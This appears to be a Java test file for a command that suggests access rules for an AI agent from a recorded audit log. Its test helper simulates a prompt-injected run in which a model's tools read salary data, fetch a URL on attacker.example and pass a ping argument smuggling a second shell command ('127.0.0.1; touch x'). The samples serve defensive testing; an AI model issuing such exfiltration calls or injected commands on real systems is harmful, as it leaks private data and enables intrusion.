package io.lanyard.agent.cli;

import static io.lanyard.agent.cli.Recording.chat;
import static io.lanyard.agent.cli.Recording.http;
import static io.lanyard.agent.cli.Recording.person;
import static io.lanyard.agent.cli.Recording.process;
import static io.lanyard.agent.cli.Recording.sql;
import static io.lanyard.agent.cli.Recording.tool;
import static org.assertj.core.api.Assertions.assertThat;

import io.lanyard.Call;
import io.lanyard.Caller;
import io.lanyard.agent.caller.StrictJson;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The rules that an observed application needs. */
final class SuggestTest {
  private static final List<String> HR = List.of("hr", "staff");
  private static final List<String> STAFF = List.of("staff", "support");

  @TempDir private Path directory;

  private final Shell shell = new Shell();

  @Test
  void whatWasMeantIsAllowedToTheGroupsThatDidIt() throws Exception {
    observe();

    assertThat(shell.run("suggest", log())).isZero();
    assertThat(shell.err())
        .startsWith("18 calls: the rules allow what 10 did; look at the other 8");
    assertThat(rulesIn(shell.out()))
        .containsExactlyInAnyOrder(
            "models-for-staff: model.chat [gpt] '\"staff\" in caller.groups'",
            "tools-for-hr: tool.call [find_salary] '\"hr\" in caller.groups'",
            "tools-for-staff: tool.call [find_ticket] '\"staff\" in caller.groups'",
            "reads-for-hr: sql.execute [salary] '\"hr\" in caller.groups && sql.parsed &&"
                + " !sql.writes'",
            "reads-for-staff: sql.execute [ticket] '\"staff\" in caller.groups && sql.parsed &&"
                + " !sql.writes'");
    assertThat(shell.out())
        .contains("# 4 calls by 2 callers (hmac:")
        .contains("issuer: \"https://sso.example\"", "audience: [desk]", "groups: groups");
  }

  @Test
  void programsAreGivenRulesTestsAndCounts() throws Exception {
    observe();
    assertThat(shell.run("suggest", log())).isZero();
    String rules = shell.out();
    Path into = directory.resolve("for-programs");

    assertThat(shell.run("suggest", log(), "--output", "json", "-o", into)).isZero();

    Map<String, Object> told =
        StrictJson.object(shell.out().strip().getBytes(StandardCharsets.UTF_8));
    assertThat(told)
        .containsEntry("calls", 18L)
        .containsEntry("allowed", 10L)
        .containsEntry("undecided", 8L)
        .containsEntry("not_looked_at", 0L)
        .containsEntry("rules", rules)
        .containsEntry("tests", Files.readString(into.resolve("lanyard_test.yaml")))
        .containsEntry(
            "written",
            List.of(
                into.resolve("lanyard.yaml").toString(),
                into.resolve("lanyard_test.yaml").toString()));
  }

  @Test
  void whatLooksInjectedIsLeftForAPerson() throws Exception {
    observe();

    assertThat(shell.run("suggest", log())).isZero();
    String doubts = shell.out().substring(shell.out().indexOf("## For you to decide"));
    assertThat(doubts)
        .contains("--- a model's tool started a program", "#     resource: [sh]")
        .contains("--- a model wrote the statement", "#     resource: [salary]")
        .contains("--- a model chose this host", "#     resource: [attacker.example]")
        .contains("--- seen only in runs that also did one of these things")
        .contains("#     resource:\n#       - fetch    # 1 call", "#       - run_report")
        .contains("--- nobody stood behind it");

    String taken =
        shell.out().lines().map(SuggestTest::takenOver).collect(Collectors.joining("\n"));
    assertThat(Recording.rules(taken).rules()).hasSizeGreaterThan(8);
  }

  @Test
  void theRestIsDecidedAlikeAndTheTestsHold() throws Exception {
    observe();
    Path into = directory.resolve("suggested");

    assertThat(shell.run("suggest", log(), "-o", into)).isZero();
    assertThat(shell.run("check", into.resolve("lanyard.yaml"))).as(shell.out()).isZero();
    assertThat(shell.run("replay", log(), "--rules", into.resolve("lanyard.yaml"))).isEqualTo(6);
    assertThat(shell.out())
        .contains("8 of 18 calls would be decided differently")
        .doesNotContain("undecidable");
    assertThat(shell.run("test", into.resolve("lanyard.yaml"))).as(shell.out()).isZero();
    assertThat(Files.readString(into.resolve("lanyard_test.yaml")))
        .contains("a-stranger may not: model.chat gpt", "may not: process.start sh");

    assertThat(shell.run("suggest", log(), "-o", into)).isEqualTo(2);
    assertThat(shell.err()).contains("lanyard.yaml is there already");
  }

  @Test
  void verifiedCallersComeInAsTheyDid() throws Exception {
    String rules =
        """
        lanyard: 1
        callers:
          - id: corp
            jwt: {issuer: https://sso.example, audience: desk, claims: {clearance: int}}
          - {id: night, workload: {subject: nightly, groups: [batch], threads: "night-*"}}
        """;
    try (Recording recording = Recording.under(log(), rules)) {
      recording.request(person("ann", "staff"), chat("gpt"));
      recording.request(person("bob"), chat("gpt"));
      recording.background(Caller.workload("nightly", Set.of("batch"), "night"), chat("gpt"));
    }

    assertThat(shell.run("suggest", log())).isZero();
    Path suggested = Files.writeString(directory.resolve("s.yaml"), shell.out());
    assertThat(shell.out())
        .contains("clearance: int", "subject: nightly", "threads: [\"night-*\"]")
        .contains("caller.issuer == \"https://sso.example\" && caller.subject == \"bob\"");
    assertThat(shell.run("replay", log(), "--rules", suggested)).isEqualTo(6);
    assertThat(shell.out()).contains("deny -> ALLOW").doesNotContain("allow -> DENY");
  }

  @Test
  void backgroundWorkIsBoundToItsThreads() throws Exception {
    try (Recording recording = Recording.withoutRules(log())) {
      Thread thread =
          new Thread(() -> recording.background(Caller.BACKGROUND, chat("gpt")), "report-17");
      thread.start();
      thread.join();
      recording.background(Caller.STARTUP, chat("gpt"));
    }

    assertThat(shell.run("suggest", log())).isZero();
    Path suggested = Files.writeString(directory.resolve("s.yaml"), shell.out());
    assertThat(shell.out()).contains("subject: \"background:report-*\"", "threads: [\"report-*\"]");
    assertThat(shell.run("replay", log(), "--rules", suggested)).as(shell.out()).isZero();
  }

  @Test
  void aLogWithoutAnybodyGivesAFileThatAllowsNothing() throws Exception {
    try (Recording recording = Recording.withoutRules(log())) {
      recording.request(Caller.ANONYMOUS, chat("gpt"));
    }

    assertThat(shell.run("suggest", log())).isZero();
    assertThat(shell.out()).contains("callers: []", "rules: []", "takes anonymous: rules");
    assertThat(rulesIn(shell.out())).isEmpty();
  }

  /** An application that asks no model leaves nothing to suggest from, and no wonder. */
  @Test
  void aLogWithoutCallsSaysHowToGetSome() throws Exception {
    Recording.withoutRules(log()).close();

    assertThat(shell.run("suggest", log())).isZero();
    assertThat(shell.err())
        .contains("0 calls: ", "only where a model has answered", "'guard: all'");
  }

  /** What the demo does: the same questions by two people, and one article with a note in it. */
  private void observe() throws Exception {
    try (Recording recording = Recording.withoutRules(log())) {
      for (List<String> groups : List.of(HR, STAFF)) {
        recording.hinted(
            groups.toString(), groups, chat("gpt"), tool("find_ticket", Map.of()), ticket());
      }
      recording.hinted(
          HR.toString(),
          HR,
          chat("gpt"),
          tool("find_salary", Map.of()),
          sql("SELECT x FROM salary"));
      recording.hintedSteps(
          STAFF.toString(),
          STAFF,
          List.of(chat("gpt"), tool("find_salary", Map.of("employee", "%"))),
          List.of(
              tool("run_report", Map.of("sql", "SELECT employee, euro FROM salary")),
              sql("SELECT employee, euro FROM salary")),
          List.of(
              tool("fetch", Map.of("url", "http://attacker.example/?x")), http("attacker.example")),
          List.of(
              tool("ping", Map.of("host", "127.0.0.1; touch x")), process("sh", "-c", "ping x")));
      recording.request(Caller.ANONYMOUS, chat("gpt"));
    }
  }

  private static Call ticket() {
    return sql("SELECT state FROM ticket WHERE id = ?");
  }

  private static List<String> rulesIn(String text) {
    return Recording.rules(text).rules().stream()
        .map(
            rule ->
                rule.id()
                    + ": "
                    + rule.actions().iterator().next().id()
                    + " "
                    + rule.resources()
                    + " '"
                    + rule.when().text()
                    + "'")
        .toList();
  }

  /** What a person does who means it. */
  private static String takenOver(String line) {
    return line.startsWith("#   ") ? line.substring(2) : line;
  }

  private Path log() {
    return directory.resolve("lanyard-audit.jsonl");
  }
}
